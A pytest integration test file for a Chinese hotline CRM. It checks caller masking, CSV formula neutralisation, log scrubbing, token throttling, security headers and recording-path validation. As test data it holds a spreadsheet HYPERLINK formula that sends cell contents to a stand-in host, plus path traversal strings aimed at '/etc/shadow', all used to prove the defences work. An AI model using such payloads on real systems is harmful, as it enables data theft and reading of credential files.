"""Privacy that holds: no unmasking by filters, exports or the audit trail; safe CSV; access
logs without query strings; throttled bad tokens; security headers; recording references."""

import csv
import io
import logging
from collections.abc import AsyncIterator
from datetime import timedelta
from typing import Any

import pytest
from aiohttp import TCPConnector
from aiohttp.test_utils import TestClient, TestServer
from sqlalchemy import insert

from crm.api import create_app
from crm.api.access_log import PathOnlyAccessLogger
from crm.api.context import SESSIONS
from crm.db.models import WorkOrder
from crm.domain.enums import Status
from tests.integration.crm.crm_support import START, Api

pytestmark = pytest.mark.asyncio(loop_scope="session")

SECRET: dict[str, Any] = {
    "caller_name": "张三丰",
    "caller_number": "13812345678",
    "confidential": True,
}


async def _dispatched(api: Api, **fields: Any) -> int:
    oid = int((await api.new_order(**fields))["id"])
    await api.ok(oid, "dispatch", "agent", lead_unit_id=api.seed.units["URBAN"])
    return oid


async def test_handler_cannot_search_by_caller_number(api: Api) -> None:
    await _dispatched(api, **SECRET)
    for path in ("/api/orders", "/api/orders/export.csv"):
        # the oracle: a match for the right guess, none for a wrong one
        for guess in ("13812345678", "13800005678"):
            status, err = await api.get(f"{path}?caller_number={guess}", "urban")
            assert status == 403, (path, err)
            assert err["error"]["code"] == "caller_number_filter_forbidden"
            assert err["error"]["field"] == "caller_number"
        status, _ = await api.get(f"{path}?caller_number=13812345678", "supervisor")
        assert status == 200
    status, page = await api.get("/api/orders?caller_number=13812345678", "agent")
    assert page["total"] == 1


async def test_handler_reads_the_audit_trail_masked(api: Api) -> None:
    oid = int((await api.new_order(**SECRET))["id"])
    status, _ = await api.call("PATCH", f"/api/orders/{oid}", json={"caller_name": "张无忌"})
    assert status == 200
    await api.ok(oid, "dispatch", "agent", lead_unit_id=api.seed.units["URBAN"])
    status, body = await api.get(f"/api/orders/{oid}/audit", "urban")
    assert status == 200
    (amend,) = [e for e in body["items"] if e["action"] == "amend"]
    assert amend["detail"]["changes"]["caller_name"] == ["张**", "张**"]
    assert "三丰" not in str(body) and "无忌" not in str(body)
    (amend,) = [e for e in await api.audit(oid) if e["action"] == "amend"]  # the supervisor
    assert amend["detail"]["changes"]["caller_name"] == ["张三丰", "张无忌"]


async def test_a_caller_once_confidential_stays_masked_in_the_trail(api: Api) -> None:
    oid = int((await api.new_order(**SECRET))["id"])
    status, _ = await api.call(
        "PATCH", f"/api/orders/{oid}", json={"caller_name": "李四", "confidential": False}
    )
    assert status == 200
    await api.ok(oid, "dispatch", "agent", lead_unit_id=api.seed.units["URBAN"])
    status, body = await api.get(f"/api/orders/{oid}/audit", "urban")
    (amend,) = [e for e in body["items"] if e["action"] == "amend"]
    assert amend["detail"]["changes"]["caller_name"] == ["张**", "李*"]


async def test_export_neutralises_formulas_and_carries_a_bom(api: Api) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    await api.new_order(
        caller_name=evil, caller_number="+8613812345678", location="@SUM(1+1)",
        text="-2+3 路灯不亮", order_type="complaint",
    )  # fmt: skip
    await api.new_order(caller_name="王五", location="人民路", text="正常")
    async with api.client.get(
        "/api/orders/export.csv", headers={"Authorization": f"Bearer {api.seed.tokens['agent']}"}
    ) as resp:
        assert resp.status == 200
        assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
        raw = await resp.read()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the Chinese right
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [(r["caller_name"], r["location"], r["text"]) for r in rows] == [
        ("王五", "人民路", "正常"),
        ("'" + evil, "'@SUM(1+1)", "'-2+3 路灯不亮"),
    ]
    assert rows[1]["caller_number"] == "'+8613812345678"


async def test_export_is_complete_beyond_ten_thousand_rows(api: Api) -> None:
    count = 10_050
    base = {
        "channel": "phone", "caller_name": "", "caller_number": "", "confidential": False,
        "location": "", "text": "批量", "order_type": "consultation", "urgency": "normal",
        "severity": "general", "status": Status.ANSWERED, "registered_by":
        api.seed.user_ids["agent"], "limit_start": START.date(), "due_provisional": False,
        "extensions_granted": 0, "extension_days": 0, "result": "", "rework_count": 0,
    }  # fmt: skip
    rows = []
    for i in range(count):  # same second for many: the keyset must order by id too
        at = START - timedelta(seconds=i // 3)
        rows.append({**base, "number": f"BULK{i:06d}", "registered_at": at, "updated_at": at})
    sessions = api.client.app[SESSIONS]
    async with sessions() as session, session.begin():
        await session.execute(insert(WorkOrder), rows)
    status, body = await api.get("/api/orders/export.csv", "supervisor")
    assert status == 200
    numbers = [r["number"] for r in csv.DictReader(io.StringIO(body.removeprefix("\ufeff")))]
    assert len(numbers) == count and len(set(numbers)) == count


async def test_access_log_has_no_query_strings_nor_numbers_in_paths(
    api: Api, caplog: pytest.LogCaptureFixture
) -> None:
    app = create_app(api.client.app[SESSIONS], centre_code="SZ12345")
    server = TestServer(app)
    await server.start_server(access_log_class=PathOnlyAccessLogger)  # as hotline_cli runs it
    headers = {"Authorization": f"Bearer {api.seed.tokens['agent']}"}
    with caplog.at_level(logging.INFO, logger="aiohttp.access"):
        async with TestClient(server) as client:
            async with client.get(
                "/api/orders?caller_number=13812345678",
                headers={**headers, "Referer": "http://x/?caller_number=13812345678"},
            ) as resp:
                assert resp.status == 200
            async with client.get("/api/callers/13700000000/history", headers=headers) as resp:
                assert resp.status == 200
            async with client.get("/api/nowhere/13600000000", headers=headers) as resp:
                assert resp.status == 404
    lines = [r.getMessage() for r in caplog.records if r.name == "aiohttp.access"]
    assert any('"GET /api/orders" 200' in line for line in lines), lines
    assert any('"GET /api/callers/{number}/history" 200' in line for line in lines), lines
    assert any('"GET (no route)" 404' in line for line in lines), lines
    for number in ("13812345678", "13700000000", "13600000000"):
        assert number not in caplog.text


async def test_security_headers_on_every_response(api: Api) -> None:
    for path, who in (("/api/orders", "agent"), ("/api/openapi.json", None),
                      ("/api/nowhere", None), ("/api/orders", None)):  # fmt: skip
        async with api.client.get(path, headers=_auth(api, who)) as resp:
            csp = resp.headers.get("Content-Security-Policy", "")
            assert "frame-ancestors 'none'" in csp, (path, resp.status)
            assert "default-src 'self'" in csp
            assert resp.headers.get("X-Content-Type-Options") == "nosniff"
            assert resp.headers.get("Referrer-Policy") == "no-referrer"


def _auth(api: Api, who: str | None) -> dict[str, str]:
    return {"Authorization": f"Bearer {api.seed.tokens[who]}"} if who else {}


@pytest.fixture
async def elsewhere(api: Api) -> AsyncIterator[TestClient[Any, Any]]:
    """A client of the same server connecting from another loopback address."""
    connector = TCPConnector(local_addr=("127.0.0.2", 0))
    client: TestClient[Any, Any] = TestClient(api.client.server, connector=connector)
    async with client:
        yield client


async def test_bad_tokens_are_throttled_per_address(
    api: Api, elsewhere: TestClient[Any, Any]
) -> None:
    statuses = []
    for i in range(30):
        async with api.client.get("/api/orders", headers={"Authorization": f"Bearer bad{i}"}) as r:
            statuses.append(r.status)
            if r.status == 429:
                retry_after = int(r.headers["Retry-After"])
                assert (await r.json())["error"]["code"] == "too_many_attempts"
    assert statuses[:10] == [401] * 10 and set(statuses[10:]) == {429}
    assert 1 <= retry_after <= 60
    async with elsewhere.get("/api/orders", headers=_auth(api, "agent")) as resp:
        assert resp.status == 200
    async with elsewhere.get("/api/orders", headers={"Authorization": "Bearer bad"}) as resp:
        assert resp.status == 401


async def test_a_token_found_valid_before_is_served_from_a_throttled_address(
    api: Api,
) -> None:
    """One bad client behind a shared NAT must not lock out the good users beside it."""
    async with api.client.get("/api/orders", headers=_auth(api, "agent")) as resp:
        assert resp.status == 200
    for i in range(11):
        async with api.client.get("/api/orders", headers={"Authorization": f"Bearer x{i}"}):
            pass
    async with api.client.get("/api/orders", headers={"Authorization": "Bearer y"}) as resp:
        assert resp.status == 429
    async with api.client.get("/api/orders", headers=_auth(api, "agent")) as resp:
        assert resp.status == 200
    async with api.client.get("/api/orders", headers=_auth(api, "supervisor")) as resp:
        assert resp.status == 429  # never seen valid here: it waits like any other token


@pytest.mark.parametrize(
    "recording",
    ["../../etc/shadow", "/etc/shadow", "20250929/../../x.wav", "20250929/1.2.wav/../a",
     "a.wav", "20250929\\1727575200.1.wav"],
)  # fmt: skip
async def test_only_the_dialplans_recording_form_is_accepted(api: Api, recording: str) -> None:
    call = {"linkedid": "1727575200.1", "recording": recording}
    body = {"order_type": "complaint", "text": "录音", "calls": [call]}
    status, err = await api.post("/api/orders", body)
    assert status == 400 and err["error"]["field"] == "calls.0.recording", err
    oid = (await api.new_order(calls=[{"linkedid": "1727575200.1"}]))["id"]
    status, err = await api.post(f"/api/orders/{oid}/calls", call)
    assert status == 400 and err["error"]["field"] == "recording", err
    good = {"linkedid": "1727575200.1", "recording": "20250929/1727575200.1.wav"}
    status, order = await api.post(f"/api/orders/{oid}/calls", good)
    assert status == 200 and order["calls"][0]["recording"] == good["recording"]
